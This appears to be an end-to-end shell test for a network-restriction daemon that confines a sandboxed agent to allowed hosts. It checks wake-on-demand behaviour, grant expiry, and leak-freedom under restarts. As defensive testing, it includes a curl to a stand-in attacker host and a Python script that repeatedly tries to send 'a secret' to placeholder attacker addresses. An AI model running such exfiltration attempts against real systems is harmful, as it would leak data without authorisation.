#!/bin/sh
# A restricted agent that asks for nothing has no daemon: one begins with what it asks for, refuses nothing that was allowed, and lets nothing else out.
# machines: trixie
# machines by hand: bookworm true
# timeout: 1800
. /opt/e2e/lib.sh
. /opt/e2e/tests/internet/up.sh
ok as alice au new -y
internet_up
ok as alice au net restrict --allow allowed.test --allow git.test
state() { systemctl show -P ActiveState au-net@agent.service; }
# rests SECONDS [COMMAND]: from now on the daemon ends when nothing has been open for so long; the command runs whenever one begins.
rests() {
	mkdir -p /run/systemd/system/au-net@agent.service.d
	printf '[Service]\n%s\nExecStart=\nExecStart=/usr/local/libexec/au/agent/au net serve --rest %s agent\n' "${2:+ExecStartPre=+/bin/sh -c \"$2\"}" "$1" \
		>/run/systemd/system/au-net@agent.service.d/rest.conf
	ok systemctl daemon-reload
	ok systemctl restart au-net@agent.service
}
asleep() { soon sh -c '[ "$(systemctl show -P ActiveState au-net@agent.service)" = inactive ]'; }

promise="the daemon ends when nothing is open, and every command knows that it sleeps"
rests 1s
asleep
[ "$(systemctl show -P MainPID au-net@agent.service)" = 0 ] || fail "it still runs"
ok systemctl is-active au-net@agent.socket au-net6@agent.socket
ok as alice au net status
says "daemon   asleep"
says "which starts when something is asked for"
ok sh -c "runuser -l alice -c 'au net status --json' | jq -e '.layers[] | select(.name == \"daemon\") | .up and .asleep'"
ok as alice au info
says_not outdated
ok as alice au net restrict
says_not '$ sudo'
[ "$(state)" = inactive ] || fail "looking at it has started it"
e2e_run as alice au doctor
says_not net-down

promise="what the agent asks for starts it, and nothing is refused that was allowed"
for way in -4 -6; do
	asleep
	ok agent curl $way -sS --max-time 20 https://allowed.test/
	says "INTERNET allowed.test"
	asleep
	untouched agent curl $way -sS --max-time 20 https://attacker.test/
	[ "$e2e_status" = 35 ] || fail "the refusal is another than that of a daemon that runs"
done
asleep
ok as alice au net status --verify
says_not OPEN
asleep
ok agent dig +time=5 +tries=1 @::1 allowed.test
says 203.0.113.7
asleep
ok agent dig +time=5 +tries=1 +tcp allowed.test
says 203.0.113.7

promise="an address that was answered stays good, while nobody answers any more"
asleep
ok stat -c '%a %U' /var/log/au/agent/answers.json
says_exactly '600 aunet-agent'
ok agent dig +short +time=5 +tries=1 allowed.test
asleep
cp /etc/resolv.conf /run/resolv
echo 'nameserver 203.0.113.10' >/etc/resolv.conf
ok agent curl -sS --max-time 20 --resolve allowed.test:443:203.0.113.7 https://allowed.test/
says "INTERNET allowed.test"
cat /run/resolv >/etc/resolv.conf
e2e_run agent cat /var/log/au/agent/answers.json
[ "$e2e_status" != 0 ] || fail "the agent reads what the daemon keeps"
e2e_run as alice cat /var/log/au/agent/answers.json
[ "$e2e_status" != 0 ] || fail "a human reads what the daemon keeps"

promise="an open connection keeps the daemon awake, and ends with the grant that opened it"
began=$(date +%s)
ok agent curl -sS --max-time 20 https://allowed.test/
slow=$(($(date +%s) - began)) # a busy machine takes longer for what is to happen meanwhile
span=$((10 + 8 * slow))
cat >/run/talk.py <<'PYTHON'
import socket, ssl, time
s = ssl.create_default_context().wrap_socket(socket.create_connection(("other.test", 443)), server_hostname="other.test")
print("open", flush=True)
s.settimeout(600)
began = time.monotonic()
try: print("read", s.recv(1), flush=True)
except OSError as e: print("closed", e, flush=True)
PYTHON
ok as alice au net allow --for ${span}s other.test
end=$(date +%s -d "$span seconds")
as alice au run -- python3 /dev/stdin </run/talk.py >/run/talk 2>&1 &
talker=$!
soon grep -q open /run/talk
sleep 3
[ "$(state)" = active ] || fail "the daemon ended under an open connection"
grep -q 'read\|closed' /run/talk && fail "the connection is over: $(cat /run/talk)"
wait $talker
over=$(($(date +%s) - end))
grep -q closed /run/talk || fail "it ended otherwise: $(cat /run/talk)"
[ "$over" -le $((3 + slow)) ] && [ "$over" -ge -2 ] || fail "it ended $over s after its time"
asleep
untouched agent curl -sS --max-time 10 https://other.test/
[ "$e2e_status" != 0 ] || fail "the agent reached what was given for seconds"

promise="the first connection after a rest is soon there"
cat >/run/first.py <<'PYTHON'
# first.py PAUSE: prints how many milliseconds a new TLS connection takes, by the median of fifteen with such pauses.
import socket, ssl, statistics, sys, time
context, took = ssl.create_default_context(), []
at = socket.getaddrinfo("allowed.test", 443, socket.AF_INET)[0][4]
for _ in range(16):
    time.sleep(float(sys.argv[1]))
    began = time.monotonic()
    with context.wrap_socket(socket.create_connection(at, 20), server_hostname="allowed.test"): pass
    took.append(1000 * (time.monotonic() - began))
print(f"{statistics.median(took[1:]):.1f}")
PYTHON
# first PAUSE: the same, as the agent.
first() { as alice au run -- python3 /dev/stdin "$1" </run/first.py; }
rests 1m
awake=$(first 0.3)
rests 300ms # one that rests for less ends before it has taken the connection that began it, and begins again
asleep
rested=$(first 1.5)
asleep
echo "a new connection: $awake ms with a daemon that runs, $rested ms with one that has to begin"
awk "BEGIN { exit !($rested - $awake < 1000) }" || [ -e /dev/vda ] || fail "it takes $rested ms instead of $awake"

promise="a daemon that ends and begins all the time lets nothing out, and refuses nothing"
rests 1ms 'echo >>/run/begun'
cat >/run/internet/load.py <<'PYTHON'
# load.py [ROUNDS]: what is allowed is reached in each, and meanwhile others try to reach the attacker all the time; without ROUNDS until there is enough.
import itertools, os, socket, ssl, sys, threading
enough = threading.Event()
tried = itertools.count()

def attack(kind, port):
    for host in itertools.cycle(("203.0.113.66", "2001:db8:2::66")):
        if enough.is_set(): return
        next(tried)
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as s:
            s.settimeout(0.2)
            try:
                s.connect((host, port))
                s.send(b"a secret")
                s.recv(100)
            except OSError: pass
        enough.wait(0.05)

for kind, port in (socket.SOCK_STREAM, 443), (socket.SOCK_STREAM, 53), (socket.SOCK_DGRAM, 53), (socket.SOCK_DGRAM, 443):
    threading.Thread(target=attack, args=(kind, port)).start()
failed = []
try:
    for n in range(int(sys.argv[1])) if sys.argv[1:] else itertools.count():
        if os.path.exists("/run/internet/enough"): break
        try:
            with ssl.create_default_context().wrap_socket(socket.create_connection(("allowed.test", 443), 20), server_hostname="allowed.test") as s:
                s.sendall(b"GET / HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
                page = b""
                while part := s.recv(4096): page += part
                if b"INTERNET" not in page: raise OSError(f"no page: {page}")
        except OSError as e: failed.append(f"round {n}: {e}")
finally:
    enough.set()
print(f"{next(tried)} tries", *failed, sep="\n")
sys.exit(bool(failed))
PYTHON
chmod 755 /run/internet /run/internet/load.py
before=$(attacked)
: >/run/begun
ok agent python3 /run/internet/load.py "${ROUNDS:-20}"
cat "$e2e/out"
[ "$(attacked)" = "$before" ] || fail "$(($(attacked) - before)) packets reached the attacker"
[ "$(wc -l </run/begun)" -ge "${ROUNDS:-20}" ] || fail "it began $(wc -l </run/begun) times, so that this shows little"

promise="nor does one that is killed and stopped all the time let anything out"
(for _ in $(seq $((${ROUNDS:-20} / 2))); do
	systemctl kill --signal=KILL au-net@agent.service 2>/dev/null
	sleep 0.3
	systemctl stop au-net@agent.service 2>/dev/null
	sleep 0.3
done
: >/run/internet/enough) &
ender=$!
e2e_run agent python3 /run/internet/load.py
wait $ender
grep -m 1 tries "$e2e/out"
[ "$(attacked)" = "$before" ] || fail "$(($(attacked) - before)) packets reached the attacker"
soon agent curl -sS --max-time 20 https://allowed.test/
ok as alice au net off
